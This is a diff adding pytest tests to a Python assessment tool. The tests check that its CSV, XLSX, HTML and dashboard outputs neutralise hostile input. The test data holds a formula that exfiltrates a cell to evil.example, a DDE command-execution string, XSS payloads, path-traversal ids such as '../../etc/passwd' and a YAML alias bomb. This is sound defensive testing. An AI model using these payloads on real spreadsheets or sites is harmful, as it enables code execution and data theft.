@@ -144,3 +144,158 @@ def test_validate_lists_every_problem_with_file_line_and_field(tmp_path):
                    "[modules[1].title]"):
         assert f"{f}{needle}" in r.stderr or needle in r.stderr, (needle, r.stderr)
     assert "8 problem(s)" in r.stderr
+
+
+# -- the command line ------------------------------------------------------------------------------
+def test_unknown_scenario_is_the_options_error_not_the_files():
+    r = run_cli("assess", "parameters/sepsis-icu.yaml", "--scenario", "nosuch", cwd=ROOT)
+    assert r.returncode == 1 and "--scenario: found 'nosuch'; allowed:" in r.stderr
+    assert "sepsis-icu.yaml" not in r.stderr
+    r = run_cli("summary", "parameters", "--scenario", "nosuch", cwd=ROOT)
+    assert r.returncode == 1 and "--scenario" in r.stderr
+
+
+def test_summary_of_a_missing_or_empty_folder_is_an_error(tmp_path):
+    r = run_cli("summary", str(tmp_path / "nope"))
+    assert r.returncode == 1 and "no such folder" in r.stderr
+    r = run_cli("summary", str(tmp_path))
+    assert r.returncode == 1 and "no answers files" in r.stderr
+
+
+@pytest.mark.parametrize("target", ["/dev/null", "folder", "binary"])
+def test_assess_on_what_is_not_an_answers_file(tmp_path, target):
+    if target == "folder":
+        target = str(tmp_path)
+    elif target == "binary":
+        target = str(tmp_path / "x.yaml")
+        (tmp_path / "x.yaml").write_bytes(bytes(range(256)) * 10)
+    r = run_cli("assess", target)
+    assert r.returncode == 1 and target in r.stderr and "Traceback" not in r.stderr
+    assert "internal error" not in r.stderr
+
+
+# -- the portfolio ---------------------------------------------------------------------------------
+from portfolio_helpers import AS_OF, EXAMPLES  # noqa: E402
+from sivreg.portfolio import run_portfolio  # noqa: E402
+from sivreg.errors import SivregError  # noqa: E402
+
+from conftest import ROOT  # noqa: E402
+
+FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"Klikk")', "owner": "+cmd|' /C calc'!A0",
+            "description": "@SUM(1+1)"}
+
+
+def _hostile_portfolio(folder):
+    folder.mkdir()
+    from dataclasses import replace
+    base = sivreg.load(EXAMPLES / "ed-triage.yaml")
+    (folder / "formula.yaml").write_text(sivreg.dump_project(replace(base, id="formula", **FORMULAS)),
+                                         encoding="utf-8")
+    (folder / "minus.yaml").write_text(sivreg.dump_project(
+        replace(base, id="minus", title="-2+3", owner="<img src=x onerror=alert(1)>")), encoding="utf-8")
+    (folder / "=1+2.yaml").write_text("project: [\n", encoding="utf-8")  # invalid: its name is shown
+    return folder
+
+
+def test_csv_and_xlsx_never_hold_a_formula(tmp_path):
+    res = run_portfolio(_hostile_portfolio(tmp_path / "p"), tmp_path / "out", notebooks=False,
+                        progress=False, as_of=AS_OF)
+    assert res.exit_code == 1 and {e.status for e in res.entries} == {"assessed", "invalid"}
+    text = (tmp_path / "out" / "summary.csv").read_text(encoding="utf-8-sig")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    for cell in cells:
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
+    assert "'" + FORMULAS["title"] in cells and "'-2+3" in cells and "'=1+2" in cells
+    from openpyxl import load_workbook
+    raw = zipfile.ZipFile(tmp_path / "out" / "summary.xlsx").read("xl/worksheets/sheet1.xml").decode()
+    assert "<f>" not in raw  # no formula cell anywhere
+    ws = load_workbook(tmp_path / "out" / "summary.xlsx").active
+    values = [c.value for row in ws.iter_rows() for c in row]
+    assert FORMULAS["title"] in values and FORMULAS["owner"] in values and "-2+3" in values  # exactly as typed
+    html = (tmp_path / "out" / "summary.html").read_text(encoding="utf-8")
+    assert "<img" not in html and "&lt;img src=x" in html
+
+
+def test_output_folder_that_is_a_file_or_under_a_file(tmp_path):
+    (tmp_path / "afile").write_text("x")
+    for out in (tmp_path / "afile", tmp_path / "afile" / "sub"):
+        with pytest.raises(SivregError, match="output folder|is a file"):
+            run_portfolio(EXAMPLES, out, notebooks=False, progress=False, as_of=AS_OF)
+        r = run_cli("portfolio", "run", str(EXAMPLES), "--out", str(out), "--no-notebooks")
+        assert r.returncode == 1 and str(out) in r.stderr and "internal error" not in r.stderr
+
+
+def test_a_file_name_that_is_not_utf8_does_not_stop_the_batch(tmp_path):
+    src = tmp_path / "p"
+    src.mkdir()
+    good = (EXAMPLES / "ed-triage.yaml").read_bytes()
+    (src / "ed-triage.yaml").write_bytes(good)
+    import os
+    with open(os.path.join(os.fsencode(src), b"latin1-\xe6\xf8\xe5.yaml"), "wb") as fh:
+        fh.write(good.replace(b"id: ed-triage", b"id: other"))
+    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF)
+    status = sorted(e.status for e in res.entries)
+    assert status == ["assessed", "invalid"] and res.exit_code == 1
+    bad = [e for e in res.entries if e.status == "invalid"][0]
+    assert "not UTF-8" in bad.error
+    assert (tmp_path / "out" / "summary.html").is_file()
+
+
+@pytest.mark.parametrize("pid", ["../../etc/passwd", "a b", "ünïcode", "..", ".hidden", "x/y", "con:"])
+def test_project_ids_never_leave_the_output_folder(tmp_path, pid):
+    src = tmp_path / "p"
+    src.mkdir()
+    (src / "x.yaml").write_text(f"project: {{id: {pid!r}, title: T}}\nanswers: {{}}\n".replace("'", '"'),
+                                encoding="utf-8")
+    res = run_portfolio(src, tmp_path / "out", notebooks=False, progress=False, as_of=AS_OF)
+    assert [e.status for e in res.entries] == ["invalid"] and "[project.id]" in res.entries[0].error
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["out", "p"]
+
+
+# -- the dashboard ---------------------------------------------------------------------------------
+@pytest.mark.parametrize("content, expect", [
+    (b"project: " + b"[" * 5000 + b"]" * 5000, "nested"),
+    (BOMB.encode() + b"project: {id: x, title: y}\nas_of: *i\n", "aliases"),
+    (b"project: {id: x, title: y}\nscenario: [a]\nanswers: {}\n", "[scenario]"),
+    (b"project: {id: x, title: y}\norganisation: {a: 1}\nanswers: {}\n", "found a mapping"),
+    (b"project: {id: x, title: y}\nas_of: 2026-02-30\nanswers: {}\n", "[as_of]"),
+    (b"project: {id: x, title: y}\nanswers: {ci.planned_start: 2026-02-30}\n", "ci.planned_start"),
+    (b"project: {id: x, title: \"a\\e[2Jb\"}\nanswers: {}\n", "U+001B"),
+])
+def test_dashboard_upload_of_a_hostile_file_keeps_the_answers(content, expect):
+    from test_views_questionnaire import _upload, click
+    from sivreg.views import Questionnaire
+    q = Questionnaire(lang="nb", as_of="2026-11-26")
+    click(q, "qual.is_software", "no")
+    before = q.assessment.to_dict()
+    _upload(q, "hostile.yaml", content)
+    assert "sv-error" in q.upload_msg.value and expect in q.upload_msg.value, q.upload_msg.value
+    assert q.answers == {"qual.is_software": "no"} and q.as_of == "2026-11-26"
+    assert q.assessment.to_dict() == before and "sv-error" not in q.result.value
+
+
+def test_dashboard_upload_shows_hostile_text_as_text():
+    from test_views_questionnaire import _upload
+    from sivreg.views import Questionnaire
+    q = Questionnaire(lang="nb", as_of="2026-11-26")
+    content = ("project: {id: x, title: '<script>alert(1)</script>', owner: '<img src=x onerror=alert(2)>',"
+               " description: '</pre><b>d</b>'}\nanswers: {qual.is_software: yes}\n").encode()
+    _upload(q, "<i>name</i>.yaml", content)
+    assert "sv-ok" in q.upload_msg.value and "<i>" not in q.upload_msg.value
+    assert q.title.value == "<script>alert(1)</script>"  # a text box shows it as typed
+    for html in (q.result.value, q.report_html(), q.upload_msg.value):
+        assert "<script" not in html and "<img" not in html and "<b>d" not in html
+
+
+def test_dashboard_upload_that_hits_a_bug_keeps_the_answers(monkeypatch):
+    from test_views_questionnaire import _upload, click
+    from sivreg.views import Questionnaire, questionnaire
+    q = Questionnaire(lang="nb", as_of="2026-11-26")
+    click(q, "qual.is_software", "no")
+
+    def broken(*a, **kw):
+        raise RuntimeError("a bug")
+    monkeypatch.setattr(questionnaire, "loads", broken)
+    _upload(q, "ok.yaml", (EXAMPLES / "ed-triage.yaml").read_bytes())
+    assert "sv-error" in q.upload_msg.value and "RuntimeError" in q.upload_msg.value
+    assert "Traceback" not in q.upload_msg.value and q.answers == {"qual.is_software": "no"}
